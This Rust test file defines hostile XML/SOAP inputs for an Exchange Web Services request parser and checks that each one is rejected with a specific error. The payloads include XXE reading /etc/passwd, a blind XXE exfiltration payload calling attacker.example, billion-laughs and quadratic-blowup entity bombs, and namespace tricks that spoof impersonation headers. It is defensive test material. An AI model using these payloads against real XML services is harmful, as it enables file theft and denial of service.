//! The hostile-input table of security.md §3, shared by `attacks.rs`
//! (precise error variants) and `attack_memory.rs` (allocation bounds).

use ews_proto::EwsProtoError as E;
use ews_proto::request::{Operation, Request, parse_request};
use ews_proto::xml::Limits;

pub const SOAP: &str = "http://schemas.xmlsoap.org/soap/envelope/";
pub const MESSAGES: &str = "http://schemas.microsoft.com/exchange/services/2006/messages";
pub const TYPES: &str = "http://schemas.microsoft.com/exchange/services/2006/types";

pub type Outcome = Result<Request, E>;

pub struct Case {
    pub name: &'static str,
    pub input: Vec<u8>,
    pub limits: Limits,
    pub check: fn(&Outcome) -> bool,
    /// Upper bound on the bytes `parse_request` may allocate for this input.
    pub alloc_budget: usize,
}

impl Case {
    pub fn run(&self) -> Outcome {
        parse_request(&self.input, &self.limits)
    }
}

/// Default allocation budget: far below every hostile input's size.
pub const SMALL_BUDGET: usize = 64 * 1024;

pub fn envelope(header: &str, body: &str) -> String {
    format!(
        r#"<s:Envelope xmlns:s="{SOAP}" xmlns:m="{MESSAGES}" xmlns:t="{TYPES}"><s:Header>{header}</s:Header><s:Body>{body}</s:Body></s:Envelope>"#
    )
}

const GET_FOLDER: &str = r#"<m:GetFolder><m:FolderShape><t:BaseShape>IdOnly</t:BaseShape></m:FolderShape><m:FolderIds><t:DistinguishedFolderId Id="inbox"/></m:FolderIds></m:GetFolder>"#;

fn get_folder() -> String {
    envelope(
        r#"<t:RequestServerVersion Version="Exchange2016"/>"#,
        GET_FOLDER,
    )
}

fn create_with_subject(subject_xml: &str) -> String {
    envelope(
        "",
        &format!(
            r#"<m:CreateItem MessageDisposition="SaveOnly"><m:Items><t:Message><t:Subject>{subject_xml}</t:Subject></t:Message></m:Items></m:CreateItem>"#
        ),
    )
}

fn subject_of(r: &Outcome) -> Option<(String, Option<String>)> {
    match r {
        Ok(Request {
            operation: Operation::CreateItem(c),
            ..
        }) => match c.items.as_slice() {
            [ews_proto::request::NewItem::Message(m)] => {
                Some((m.item.subject.clone()?, m.item.item_class.clone()))
            }
            _ => None,
        },
        _ => None,
    }
}

fn utf16le(s: &str, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if bom {
        out.extend_from_slice(&[0xFF, 0xFE]);
    }
    for unit in s.encode_utf16() {
        out.extend_from_slice(&unit.to_le_bytes());
    }
    out
}

fn utf16be(s: &str, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if bom {
        out.extend_from_slice(&[0xFE, 0xFF]);
    }
    for unit in s.encode_utf16() {
        out.extend_from_slice(&unit.to_be_bytes());
    }
    out
}

const BOM: &str = "\u{FEFF}";

fn case(name: &'static str, input: impl Into<Vec<u8>>, check: fn(&Outcome) -> bool) -> Case {
    Case {
        name,
        input: input.into(),
        limits: Limits::default(),
        check,
        alloc_budget: SMALL_BUDGET,
    }
}

pub fn cases() -> Vec<Case> {
    let mut v = Vec::new();

    // ------------------------------------------------------------------
    // DTD attacks: rejected at the DOCTYPE, before anything is expanded.
    // ------------------------------------------------------------------
    v.push(case(
        "external general entity (XXE)",
        format!(
            r#"<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>{}"#,
            envelope("", "<m:GetFolder>&xxe;</m:GetFolder>")
        ),
        |r| matches!(r, Err(E::DtdNotAllowed { position: 21 })),
    ));
    v.push(case(
        "external parameter entity",
        format!(
            r#"<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]>{}"#,
            get_folder()
        ),
        |r| matches!(r, Err(E::DtdNotAllowed { position: 0 })),
    ));
    v.push(case(
        "blind XXE exfiltration via parameter entities",
        format!(
            "<!DOCTYPE foo [<!ENTITY % file SYSTEM \"file:///etc/passwd\"><!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://attacker.example/?x=%file;'>\">%eval;%exfil;]>{}",
            get_folder()
        ),
        |r| matches!(r, Err(E::DtdNotAllowed { position: 0 })),
    ));
    {
        let mut dtd =
            String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
        for i in 1..=9 {
            let prev = if i == 1 {
                "lol".to_owned()
            } else {
                format!("lol{}", i - 1)
            };
            dtd.push_str(&format!(
                " <!ENTITY lol{i} \"{}\">\n",
                format!("&{prev};").repeat(10)
            ));
        }
        dtd.push_str("]>\n<lolz>&lol9;</lolz>");
        v.push(case("billion laughs", dtd, |r| {
            matches!(r, Err(E::DtdNotAllowed { position: 22 }))
        }));
    }
    v.push(case(
        "quadratic blowup (10 KB entity referenced 10k times)",
        format!(
            "<!DOCTYPE x [<!ENTITY a \"{}\">]><x>{}</x>",
            "A".repeat(10_000),
            "&a;".repeat(10_000)
        ),
        |r| matches!(r, Err(E::DtdNotAllowed { position: 0 })),
    ));
    v.push(case(
        "quadratic blowup without a DTD (undefined entity)",
        format!("<x>{}</x>", "&a;".repeat(10_000)),
        |r| matches!(r, Err(E::UnknownEntity { name, position: 3 }) if name == "a"),
    ));
    v.push(case(
        "DOCTYPE after a comment",
        format!("<!-- hi --><!DOCTYPE x>{}", get_folder()),
        |r| matches!(r, Err(E::DtdNotAllowed { position: 11 })),
    ));
    v.push(case(
        "DOCTYPE inside the root element",
        "<a><!DOCTYPE x></a>",
        |r| matches!(r, Err(E::DtdNotAllowed { position: 3 })),
    ));
    v.push(case(
        "HTML entity (&nbsp;) in a subject",
        create_with_subject("a&nbsp;b"),
        |r| matches!(r, Err(E::UnknownEntity { name, .. }) if name == "nbsp"),
    ));
    v.push(case(
        "character reference to NUL",
        create_with_subject("a&#0;b"),
        |r| matches!(r, Err(E::InvalidCharacter { codepoint: 0, .. })),
    ));
    v.push(case(
        "character reference out of range",
        create_with_subject("&#x110000;"),
        |r| matches!(r, Err(E::InvalidCharacterReference { .. })),
    ));

    // ------------------------------------------------------------------
    // Size and count limits.
    // ------------------------------------------------------------------
    v.push(case(
        "100k-deep nesting",
        format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000)),
        |r| {
            matches!(
                r,
                Err(E::TooDeep {
                    limit: 64,
                    position: 192
                })
            )
        },
    ));
    v.push(case(
        "100k-deep restriction inside a valid envelope",
        envelope(
            "",
            &format!(
                r#"<m:FindItem Traversal="Shallow"><m:ItemShape><t:BaseShape>IdOnly</t:BaseShape></m:ItemShape><m:Restriction>{}</m:Restriction></m:FindItem>"#,
                "<t:Not>".repeat(100_000)
            ),
        ),
        |r| matches!(r, Err(E::TooDeep { limit: 64, .. })),
    ));
    v.push(case(
        "huge attribute value (2 MiB)",
        format!(
            r#"<s:Envelope xmlns:s="{SOAP}" x="{}"/>"#,
            "A".repeat(2 * 1024 * 1024)
        ),
        |r| {
            matches!(
                r,
                Err(E::AttributeValueTooLong {
                    length: 2_097_152,
                    limit: 1_048_576,
                    position: 0
                })
            )
        },
    ));
    v.push(case(
        "huge namespace URI (2 MiB)",
        format!(r#"<p:x xmlns:p="urn:{}"/>"#, "A".repeat(2 * 1024 * 1024)),
        |r| {
            matches!(
                r,
                Err(E::AttributeValueTooLong {
                    limit: 1_048_576,
                    ..
                })
            )
        },
    ));
    {
        let mut s = String::from("<a");
        for i in 0..100_000 {
            s.push_str(&format!(" a{i}=\"\""));
        }
        s.push_str("/>");
        v.push(case("100k attributes on one element", s, |r| {
            matches!(
                r,
                Err(E::TooManyAttributes {
                    limit: 64,
                    position: 0
                })
            )
        }));
    }
    {
        let mut s = String::from("<a>");
        for _ in 0..100_001 {
            s.push_str("<b x=\"\" y=\"\"/>");
        }
        s.push_str("</a>");
        let mut c = case("200k attributes spread over 100k elements", s, |r| {
            matches!(r, Err(E::TooManyTotalAttributes { limit: 200_000, .. }))
        });
        // Bounded by the limits (a tree of up to `max_elements` small
        // elements, ~400 bytes each including vector growth), not by the input.
        c.alloc_budget = c.limits.max_elements * 512;
        v.push(c);
    }
    {
        let mut c = case(
            "200k+1 elements",
            format!("<a>{}</a>", "<b/>".repeat(200_001)),
            |r| matches!(r, Err(E::TooManyElements { limit: 200_000, .. })),
        );
        c.alloc_budget = c.limits.max_elements * 512;
        v.push(c);
    }
    v.push(case(
        "huge element name (1 MiB)",
        format!("<{}/>", "a".repeat(1024 * 1024)),
        |r| {
            matches!(
                r,
                Err(E::NameTooLong {
                    length: 1_048_576,
                    limit: 256,
                    position: 0
                })
            )
        },
    ));
    v.push(case(
        "huge attribute name (1 MiB)",
        format!("<a {}=\"1\"/>", "b".repeat(1024 * 1024)),
        |r| {
            matches!(
                r,
                Err(E::NameTooLong {
                    length: 1_048_576,
                    ..
                })
            )
        },
    ));
    v.push(case(
        "huge prefix (1 MiB)",
        format!("<{}:a/>", "p".repeat(1024 * 1024)),
        |r| matches!(r, Err(E::NameTooLong { .. })),
    ));
    {
        let mut s = String::from("<a");
        for i in 0..5_000 {
            s.push_str(&format!(" xmlns:p{i}=\"urn:{i}\""));
        }
        s.push_str("/>");
        v.push(case("5000 namespace declarations on one element", s, |r| {
            matches!(
                r,
                Err(E::TooManyNamespaceDeclarations {
                    limit: 32,
                    position: 0
                })
            )
        }));
    }
    {
        let mut c = case(
            "text longer than the text limit",
            envelope(
                "",
                &format!(
                    r#"<m:UpdateUserConfiguration><m:UserConfiguration><t:UserConfigurationName Name="x"><t:DistinguishedFolderId Id="root"/></t:UserConfigurationName><t:BinaryData>{}</t:BinaryData></m:UserConfiguration></m:UpdateUserConfiguration>"#,
                    "QUFB".repeat(64 * 1024)
                ),
            ),
            |r| matches!(r, Err(E::TextTooLong { limit: 65_536, .. })),
        );
        c.limits.max_text_len = 64 * 1024;
        c.alloc_budget = 256 * 1024;
        v.push(c);
    }
    {
        let mut c = case("input over 16 MiB", vec![b' '; 16 * 1024 * 1024 + 1], |r| {
            matches!(
                r,
                Err(E::InputTooLarge {
                    size: 16_777_217,
                    limit: 16_777_216
                })
            )
        });
        c.alloc_budget = 1024;
        v.push(c);
    }

    // ------------------------------------------------------------------
    // Namespaces: parse by namespace, never by prefix.
    // ------------------------------------------------------------------
    v.push(case(
        "undeclared element prefix",
        "<soap:Envelope><soap:Body/></soap:Envelope>",
        |r| matches!(r, Err(E::UndeclaredPrefix { prefix, position: 0 }) if prefix == "soap"),
    ));
    v.push(case(
        "undeclared attribute prefix",
        envelope("", r#"<m:GetFolder x:y="1"/>"#),
        |r| matches!(r, Err(E::UndeclaredPrefix { prefix, .. }) if prefix == "x"),
    ));
    v.push(case(
        "prefix t rebound so t:DistinguishedFolderId is another namespace",
        envelope(
            "",
            r#"<m:GetFolder><m:FolderShape><t:BaseShape>IdOnly</t:BaseShape></m:FolderShape><m:FolderIds xmlns:t="urn:evil"><t:DistinguishedFolderId Id="inbox"/></m:FolderIds></m:GetFolder>"#,
        ),
        |r| {
            matches!(r, Err(E::UnexpectedElement { found, parent, .. })
                if found == "{urn:evil}DistinguishedFolderId" && parent == "m:FolderIds")
        },
    ));
    v.push(case(
        "prefix t rebound so t:ItemId is another namespace",
        envelope(
            "",
            r#"<m:GetItem><m:ItemShape><t:BaseShape>IdOnly</t:BaseShape></m:ItemShape><m:ItemIds><t:ItemId xmlns:t="urn:evil" Id="I-1"/></m:ItemIds></m:GetItem>"#,
        ),
        |r| matches!(r, Err(E::UnexpectedElement { found, .. }) if found == "{urn:evil}ItemId"),
    ));
    v.push(case(
        "rebound t:RequestServerVersion is not read as the version header",
        envelope(
            r#"<t:RequestServerVersion xmlns:t="urn:evil" Version="Exchange2099"/>"#,
            GET_FOLDER,
        ),
        |r| matches!(r, Ok(req) if req.server_version.is_none()),
    ));
    v.push(case(
        "rebound t:ExchangeImpersonation is not read as impersonation",
        envelope(
            r#"<t:ExchangeImpersonation xmlns:t="urn:evil"><t:ConnectingSID><t:PrimarySmtpAddress>ceo@contoso.example</t:PrimarySmtpAddress></t:ConnectingSID></t:ExchangeImpersonation>"#,
            GET_FOLDER,
        ),
        |r| matches!(r, Ok(req) if req.impersonation.is_none()),
    ));
    v.push(case(
        "prefix m rebound to the types namespace on the operation",
        envelope(
            "",
            &GET_FOLDER.replacen(
                "<m:GetFolder>",
                &format!(r#"<m:GetFolder xmlns:m="{TYPES}">"#),
                1,
            ),
        ),
        |r| matches!(r, Err(E::NotAnEwsOperation { found, .. }) if found == "t:GetFolder"),
    ));
    v.push(case(
        "any prefix bound to the real namespaces is accepted",
        format!(
            r#"<x:Envelope xmlns:x="{SOAP}"><x:Body><q:GetFolder xmlns:q="{MESSAGES}" xmlns:z="{TYPES}"><q:FolderShape><z:BaseShape>IdOnly</z:BaseShape></q:FolderShape><q:FolderIds><z:DistinguishedFolderId Id="inbox"/></q:FolderIds></q:GetFolder></x:Body></x:Envelope>"#
        ),
        |r| matches!(r, Ok(Request { operation: Operation::GetFolder(_), .. })),
    ));
    v.push(case(
        "default namespaces instead of prefixes are accepted",
        format!(
            r#"<Envelope xmlns="{SOAP}"><Body><GetFolder xmlns="{MESSAGES}"><FolderShape><BaseShape xmlns="{TYPES}">IdOnly</BaseShape></FolderShape><FolderIds><DistinguishedFolderId xmlns="{TYPES}" Id="inbox"/></FolderIds></GetFolder></Body></Envelope>"#
        ),
        |r| matches!(r, Ok(Request { operation: Operation::GetFolder(_), .. })),
    ));
    v.push(case(
        "SOAP 1.2 envelope namespace",
        r#"<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body/></s:Envelope>"#,
        |r| matches!(r, Err(E::NotSoapEnvelope { .. })),
    ));
    v.push(case(
        "binding a prefix to the empty namespace",
        r#"<a xmlns:p=""/>"#,
        |r| matches!(r, Err(E::InvalidNamespaceDeclaration { .. })),
    ));
    v.push(case(
        "same attribute twice through two prefixes",
        format!(
            r#"<s:Envelope xmlns:s="{SOAP}" xmlns:a="urn:x" xmlns:b="urn:x" a:k="1" b:k="2"/>"#
        ),
        |r| matches!(r, Err(E::DuplicateAttribute { name, .. }) if name == "b:k"),
    ));

    // ------------------------------------------------------------------
    // Encodings and byte order marks.
    // ------------------------------------------------------------------
    v.push(case(
        "UTF-16 encoding declaration on UTF-8 bytes",
        format!(r#"<?xml version="1.0" encoding="UTF-16"?>{}"#, get_folder()),
        |r| matches!(r, Err(E::UnsupportedEncoding { encoding, position: 0 }) if encoding == "UTF-16"),
    ));
    v.push(case(
        "UTF-7 encoding declaration",
        format!(
            r#"<?xml version="1.0" encoding="UTF-7"?>+ADw-s:Envelope xmlns:s="{SOAP}"+AD4-+ADw-/s:Envelope+AD4-"#
        ),
        |r| matches!(r, Err(E::UnsupportedEncoding { encoding, .. }) if encoding == "UTF-7"),
    ));
    v.push(case(
        "ISO-8859-1 encoding declaration",
        format!(
            r#"<?xml version="1.0" encoding="ISO-8859-1"?>{}"#,
            get_folder()
        ),
        |r| matches!(r, Err(E::UnsupportedEncoding { encoding, .. }) if encoding == "ISO-8859-1"),
    ));
    v.push(case(
        "C0 control character in text",
        create_with_subject("a\u{1}b"),
        |r| matches!(r, Err(E::InvalidCharacter { codepoint: 1, .. })),
    ));
    {
        let mut bytes = create_with_subject("caf").into_bytes();
        let at = bytes
            .windows(3)
            .position(|w| w == b"caf")
            .map_or(0, |p| p + 3);
        bytes.insert(at, 0xE9);
        v.push(case("non-UTF-8 byte (Latin-1 é)", bytes, |r| {
            matches!(r, Err(E::NotUtf8 { .. }))
        }));
    }
    v.push(case(
        "UTF-16LE document with BOM",
        utf16le(&get_folder(), true),
        |r| {
            matches!(
                r,
                Err(E::UnsupportedByteOrderMark {
                    encoding: "UTF-16LE"
                })
            )
        },
    ));
    v.push(case(
        "UTF-16BE document with BOM",
        utf16be(&get_folder(), true),
        |r| {
            matches!(
                r,
                Err(E::UnsupportedByteOrderMark {
                    encoding: "UTF-16BE"
                })
            )
        },
    ));
    v.push(case(
        "UTF-16LE document without BOM",
        utf16le(&get_folder(), false),
        |r| {
            matches!(
                r,
                Err(E::InvalidCharacter {
                    codepoint: 0,
                    position: 1
                })
            )
        },
    ));
    v.push(case(
        "UTF-32LE byte order mark",
        [&[0xFF, 0xFE, 0x00, 0x00][..], b"<\0\0\0"].concat(),
        |r| {
            matches!(
                r,
                Err(E::UnsupportedByteOrderMark {
                    encoding: "UTF-32LE"
                })
            )
        },
    ));
    v.push(case(
        "UTF-8 BOM is fine",
        format!(
            "{BOM}<?xml version=\"1.0\" encoding=\"utf-8\"?>{}",
            get_folder()
        ),
        |r| {
            matches!(
                r,
                Ok(Request {
                    operation: Operation::GetFolder(_),
                    ..
                })
            )
        },
    ));
    v.push(case(
        "double UTF-8 BOM",
        format!("{BOM}{BOM}{}", get_folder()),
        |r| matches!(r, Err(E::TextBeforeRoot { position: 3 })),
    ));
    v.push(case(
        "UTF-8 BOM with a UTF-16 declaration",
        format!(
            "{BOM}<?xml version=\"1.0\" encoding=\"UTF-16\"?>{}",
            get_folder()
        ),
        |r| matches!(r, Err(E::UnsupportedEncoding { position: 3, .. })),
    ));
    v.push(case(
        "UTF-8 BOM followed by UTF-16LE content",
        [BOM.as_bytes(), &utf16le(&get_folder(), false)].concat(),
        |r| {
            matches!(
                r,
                Err(E::InvalidCharacter {
                    codepoint: 0,
                    position: 4
                })
            )
        },
    ));
    v.push(case(
        "BOM between the declaration and the root",
        format!("<?xml version=\"1.0\"?>{BOM}{}", get_folder()),
        |r| matches!(r, Err(E::TextBeforeRoot { position: 21 })),
    ));
    v.push(case(
        "BOM after the root",
        format!("{}{BOM}", get_folder()),
        |r| matches!(r, Err(E::TrailingContent { .. })),
    ));

    // ------------------------------------------------------------------
    // CDATA.
    // ------------------------------------------------------------------
    v.push(case(
        "CDATA split markers",
        create_with_subject("<![CDATA[a]]]]><![CDATA[>b]]>"),
        |r| matches!(subject_of(r), Some((s, None)) if s == "a]]>b"),
    ));
    v.push(case(
        "CDATA hiding markup stays text",
        create_with_subject(
            "<![CDATA[</t:Subject><t:ItemClass>IPM.Evil</t:ItemClass><t:Subject>]]>",
        ),
        |r| {
            matches!(subject_of(r), Some((s, None))
                if s == "</t:Subject><t:ItemClass>IPM.Evil</t:ItemClass><t:Subject>")
        },
    ));
    v.push(case(
        "literal ]]> in text",
        create_with_subject("a]]>b"),
        |r| matches!(r, Err(E::CdataEndInText { .. })),
    ));
    v.push(case(
        "nested CDATA open",
        create_with_subject("<![CDATA[<![CDATA[x]]>]]>"),
        |r| matches!(r, Err(E::CdataEndInText { .. })),
    ));
    v.push(case(
        "unterminated CDATA",
        create_with_subject("<![CDATA[never closed"),
        |r| matches!(r, Err(E::MalformedXml { .. })),
    ));
    v.push(case(
        "CDATA before the root",
        format!("<![CDATA[x]]>{}", get_folder()),
        |r| matches!(r, Err(E::TextBeforeRoot { position: 0 })),
    ));
    v.push(case(
        "CDATA after the root",
        format!("{}<![CDATA[x]]>", get_folder()),
        |r| matches!(r, Err(E::TrailingContent { .. })),
    ));

    // ------------------------------------------------------------------
    // SOAP structure and headers.
    // ------------------------------------------------------------------
    v.push(case(
        "two elements in soap:Body",
        envelope("", &format!("{GET_FOLDER}{GET_FOLDER}")),
        |r| matches!(r, Err(E::SoapBodyChildCount { count: 2 })),
    ));
    v.push(case("empty soap:Body", envelope("", ""), |r| {
        matches!(r, Err(E::SoapBodyChildCount { count: 0 }))
    }));
    v.push(case(
        "two soap:Body elements",
        format!(r#"<s:Envelope xmlns:s="{SOAP}"><s:Body/><s:Body/></s:Envelope>"#),
        |r| matches!(r, Err(E::UnexpectedSoapElement { found, .. }) if found == "soap:Body"),
    ));
    v.push(case(
        "soap:Header after soap:Body",
        format!(r#"<s:Envelope xmlns:s="{SOAP}"><s:Body/><s:Header/></s:Envelope>"#),
        |r| matches!(r, Err(E::UnexpectedSoapElement { found, .. }) if found == "soap:Header"),
    ));
    v.push(case(
        "text smuggled into soap:Body",
        envelope("", &format!("junk{GET_FOLDER}")),
        |r| {
            matches!(
                r,
                Err(E::UnexpectedSoapText {
                    parent: "soap:Body",
                    ..
                })
            )
        },
    ));
    v.push(case(
        "no soap:Body",
        format!(r#"<s:Envelope xmlns:s="{SOAP}"><s:Header/></s:Envelope>"#),
        |r| matches!(r, Err(E::MissingSoapBody)),
    ));
    v.push(case(
        "duplicate RequestServerVersion",
        envelope(
            r#"<t:RequestServerVersion Version="Exchange2016"/><t:RequestServerVersion Version="Exchange2010"/>"#,
            GET_FOLDER,
        ),
        |r| matches!(r, Err(E::DuplicateHeader { name: "RequestServerVersion" })),
    ));
    v.push(case(
        "duplicate ExchangeImpersonation",
        envelope(
            r#"<t:ExchangeImpersonation><t:ConnectingSID><t:PrimarySmtpAddress>a@contoso.example</t:PrimarySmtpAddress></t:ConnectingSID></t:ExchangeImpersonation><t:ExchangeImpersonation><t:ConnectingSID><t:PrimarySmtpAddress>ceo@contoso.example</t:PrimarySmtpAddress></t:ConnectingSID></t:ExchangeImpersonation>"#,
            GET_FOLDER,
        ),
        |r| matches!(r, Err(E::DuplicateHeader { name: "ExchangeImpersonation" })),
    ));
    v.push(case(
        "two users in one ConnectingSID",
        envelope(
            r#"<t:ExchangeImpersonation><t:ConnectingSID><t:PrimarySmtpAddress>a@contoso.example</t:PrimarySmtpAddress><t:SmtpAddress>ceo@contoso.example</t:SmtpAddress></t:ConnectingSID></t:ExchangeImpersonation>"#,
            GET_FOLDER,
        ),
        |r| matches!(r, Err(E::DuplicateElement { .. })),
    ));
    v.push(case(
        "unknown mustUnderstand=\"1\" header",
        envelope(
            r#"<w:Security xmlns:w="urn:x" s:mustUnderstand="1"/>"#,
            GET_FOLDER,
        ),
        |r| matches!(r, Err(E::MustUnderstandHeader { found }) if found == "{urn:x}Security"),
    ));
    v.push(case(
        "unknown mustUnderstand=\"true\" header in the types namespace",
        envelope(r#"<t:SerializedSecurityContext s:mustUnderstand="true"/>"#, GET_FOLDER),
        |r| matches!(r, Err(E::MustUnderstandHeader { found }) if found == "t:SerializedSecurityContext"),
    ));
    v.push(case(
        "unknown mustUnderstand=\"0\" header is ignored",
        envelope(
            r#"<w:Security xmlns:w="urn:x" s:mustUnderstand="0"/>"#,
            GET_FOLDER,
        ),
        |r| r.is_ok(),
    ));
    v.push(case(
        "mustUnderstand in a foreign namespace is not SOAP's",
        envelope(
            r#"<w:Security xmlns:w="urn:x" w:mustUnderstand="1"/>"#,
            GET_FOLDER,
        ),
        |r| r.is_ok(),
    ));
    v.push(case(
        "operation element outside the messages namespace",
        envelope("", r#"<x:GetFolder xmlns:x="urn:x"/>"#),
        |r| matches!(r, Err(E::NotAnEwsOperation { .. })),
    ));
    v.push(case(
        "unsupported server version",
        envelope(
            r#"<t:RequestServerVersion Version="Exchange2019"/>"#,
            GET_FOLDER,
        ),
        |r| matches!(r, Err(E::UnsupportedServerVersion { version }) if version == "Exchange2019"),
    ));

    // ------------------------------------------------------------------
    // Other well-formedness rules.
    // ------------------------------------------------------------------
    v.push(case(
        "processing instruction",
        format!("<?xml-stylesheet href=\"x.xsl\"?>{}", get_folder()),
        |r| matches!(r, Err(E::ProcessingInstructionNotAllowed { target, position: 0 }) if target == "xml-stylesheet"),
    ));
    v.push(case(
        "XML declaration not at the start",
        format!(" <?xml version=\"1.0\"?>{}", get_folder()),
        |r| matches!(r, Err(E::MisplacedXmlDeclaration { position: 1 })),
    ));
    v.push(case(
        "two root elements",
        format!("{}{}", get_folder(), get_folder()),
        |r| matches!(r, Err(E::MultipleRoots { .. })),
    ));
    v.push(case(
        "text after the root",
        format!("{}junk", get_folder()),
        |r| matches!(r, Err(E::TrailingContent { .. })),
    ));
    v.push(case("empty input", "", |r| {
        matches!(r, Err(E::NoRootElement))
    }));
    v.push(case("truncated input", &get_folder()[..40], |r| r.is_err()));
    v.push(case(
        "unclosed root",
        format!(r#"<s:Envelope xmlns:s="{SOAP}"><s:Body>"#),
        |r| matches!(r, Err(E::UnclosedElement { name }) if name == "Body"),
    ));
    v
}
